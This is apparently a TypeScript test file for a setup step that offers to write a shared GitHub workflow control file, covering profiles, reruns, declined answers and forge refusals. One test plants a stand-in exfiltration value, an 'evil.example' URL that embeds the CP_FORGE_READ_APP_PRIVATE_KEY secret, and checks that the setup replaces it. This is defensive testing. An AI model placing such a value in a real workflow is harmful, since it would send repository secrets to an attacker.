import { describe, expect, test } from "vitest";
import { Back } from "../../../src/prompts/prompter.ts";
import { forgetDeclined } from "../../../flows/setup/offer-control-file.ts";
import { repository, somePin } from "../../plane/control-plane-bench.ts";
import { findWordy } from "../asked-words.ts";
import { startJournal } from "../shared/run-step.ts";
import { openLocation, package_, profile, rendered, yes } from "./control-file-bench.ts";

describe("the shared control file is offered", () => {
  test("with its content and purpose; Enter, or no answer, postpones it", async () => {
    const location = openLocation();
    const { result, marks, questions, asked } = await location.offer();
    expect(result).toBe("later");
    expect(asked).toEqual(["control-file"]);
    expect(questions["control-file"]).toMatchObject({ initial: "later" });
    expect(questions["control-file"]?.facts).toEqual([
      { name: "Purpose", text: "imported by the orchestrator and the workers" },
      {
        name: "Credentials",
        text: "the read and the write App, then a PAT, then the workflow token",
      },
      { name: "File", text: ".github/workflows/shared/control.md in acme/control" },
    ]);
    expect(marks).toEqual([{ name: "Control file", state: "skipped", summary: "left for later" }]);
    for (const question of Object.values(questions)) expect(findWordy(question)).toEqual([]);
    expect(location.writes).toBe(0);
  });

  test("and written for the chosen profile, with the package that the operator names", async () => {
    const location = openLocation();
    const { result, marks, asked, questions } = await location.offer(
      { answers: { ...yes, ...package_ } },
      "pat",
    );
    expect(result).toBe("written");
    expect(asked).toEqual(["control-file", "control-package", "control-cli", "control-integrity"]);
    expect(location.text).toBe(rendered("pat"));
    expect(marks).toMatchObject([{ state: "done" }]);
    for (const question of Object.values(questions)) expect(findWordy(question)).toEqual([]);
  });

  test("but not if the file is already correct, regardless of its author", async () => {
    const location = openLocation(rendered());
    expect(await location.offer({ answers: yes })).toMatchObject({
      result: "unchanged",
      asked: [],
      marks: [{ name: "Control file", state: "done", summary: "up to date" }],
    });
    expect(location.writes).toBe(0);
  });

  test("with the lines to change if it is for another profile; the package stays", async () => {
    const location = openLocation(rendered("workflow-token"));
    const { result, questions, asked } = await location.offer({ answers: yes });
    expect(result).toBe("written");
    expect(asked).toEqual(["control-file"]);
    const { body = [] } = questions["control-file"] ?? {};
    expect(body).toContain("- # Profile: workflow-token. Inference uses only the workflow token.");
    expect(body.filter((line) => /^[-+] /.test(line))).toHaveLength(body.length - 1);
    expect(location.text).toBe(rendered());
  });

  test("completely if the existing file is not ours", async () => {
    const location = openLocation("Something else.\n");
    const { questions } = await location.offer({ answers: { ...yes, ...package_ } });
    expect(questions["control-file"]?.body).toEqual([
      "The current file does not specify a valid gatehouse package. It will be replaced completely.",
    ]);
    expect(location.text).toBe(rendered());
  });
});

test("a package that runs must not load is ignored: another package is requested, and the file is replaced", async () => {
  const evil = "http://evil.example/${{secrets.CP_FORGE_READ_APP_PRIVATE_KEY}}";
  const location = openLocation(rendered().replaceAll(somePin.source, evil));
  const { asked } = await location.offer({ answers: { ...yes, ...package_ } });
  expect(asked).toEqual(["control-file", "control-package", "control-cli", "control-integrity"]);
  expect(location.text).toBe(rendered());
});

test("the package that is kept is shown", async () => {
  const { questions } = await openLocation(rendered("workflow-token")).offer({ answers: yes });
  expect(questions["control-file"]?.facts).toContainEqual({
    name: "gatehouse package",
    text: somePin.source,
  });
});

describe("the answer", () => {
  test("yes covers one write: a reverted file is asked about again", async () => {
    const location = openLocation();
    const journal = startJournal();
    expect(await location.offer({ journal, answers: { ...yes, ...package_ } })).toMatchObject({
      result: "written",
    });
    location.text = undefined;
    expect(await location.offer({ journal })).toMatchObject({
      result: "later",
      asked: ["control-file"],
    });
    expect(location.writes).toBe(1);
  });

  test("no is not asked again by a run without other answers, except with --ask-again", async () => {
    const location = openLocation();
    const journal = startJournal();
    await location.offer({ journal });
    await journal.setAnswers([]);
    const rerun = await location.offer({ journal });
    expect(rerun).toMatchObject({ result: "later", asked: [] });
    expect(rerun.marks).toMatchObject([{ state: "skipped" }]);
    await forgetDeclined(journal, { profile, repository });
    expect(await location.offer({ journal })).toMatchObject({ asked: ["control-file"] });
  });

  test("can be withdrawn in the same run", async () => {
    const location = openLocation();
    let isBack = false;
    const { asked, result } = await location.offer({
      answers: { ...yes, ...package_ },
      onQuestion: (id) => {
        if (id !== "control-cli" || isBack) return;
        isBack = true;
        throw new Back();
      },
    });
    expect(asked).toEqual([
      "control-file",
      "control-package",
      "control-cli",
      "control-package",
      "control-cli",
      "control-integrity",
    ]);
    expect(result).toBe("written");
  });

  test("applies to a rerun, but not after a change of the profile", async () => {
    const location = openLocation();
    const journal = startJournal();
    await location.offer({ journal });
    expect(await location.offer({ journal, answers: { ...yes, ...package_ } })).toMatchObject({
      result: "later",
      asked: [],
    });
    const changed = await location.offer({ journal, answers: { ...yes, ...package_ } }, "pat");
    expect(changed).toMatchObject({
      result: "written",
      asked: ["control-file", "control-package", "control-cli", "control-integrity"],
    });
  });

  test("yes does not cover a file that another user changed since then", async () => {
    const location = openLocation();
    const journal = startJournal();
    await location.offer({ journal, answers: { ...yes, ...package_ } });
    location.text = rendered().replace("ignore-if-missing: true", "ignore-if-missing: false");
    const changed = location.text;
    expect(await location.offer({ journal })).toMatchObject({
      result: "later",
      asked: ["control-file"],
    });
    expect(location.text).toBe(changed);
  });

  test("yes is applied by a rerun if the forge rejected the commit, and is not requested again", async () => {
    const location = openLocation();
    const journal = startJournal();
    location.refusals = 1;
    const stopped = await location.offer({ journal, answers: { ...yes, ...package_ } });
    expect(stopped.error?.message).toContain("protected");
    expect(location.text).toBeUndefined();
    expect(await location.offer({ journal })).toMatchObject({ result: "written", asked: [] });
    // The next run finds the file that this run wrote.
    expect(await location.offer({ journal })).toMatchObject({ result: "unchanged", asked: [] });
    expect(location.writes).toBe(2);
  });

  test("yes is not requested again if the run stopped while the file was being written", async () => {
    const location = openLocation();
    const journal = startJournal();
    const answers = { ...yes, ...package_ };
    const stopped = await location.offer({ journal, answers, stopDuring: "control-file-write" });
    expect(stopped.error).toBeDefined();
    expect(await location.offer({ journal })).toMatchObject({ result: "unchanged", asked: [] });
    expect(location.writes).toBe(1);
  });
});

test("a forge that rejects a commit does not stop the setup: the file is left for later", async () => {
  const location = openLocation();
  location.refusals = 1;
  const answers = { ...yes, ...package_, "failure:control-file-write": "later" };
  const { result, asked } = await location.offer({ answers });
  expect(result).toBe("later");
  expect(asked.filter((id) => id === "control-file-write")).toHaveLength(1);
  expect(location.writes).toBe(1);
});

test.each([
  ["control-cli", "http://example.com/a.tgz"],
  ["control-integrity", "sha1-abc"],
])("rejects a value that a run cannot rely on: %s %s", async (id, answer) => {
  const location = openLocation();
  const { error } = await location.offer({ answers: { ...yes, ...package_, [id]: answer } });
  expect(error?.message).toContain(answer);
  expect(location.writes).toBe(0);
});
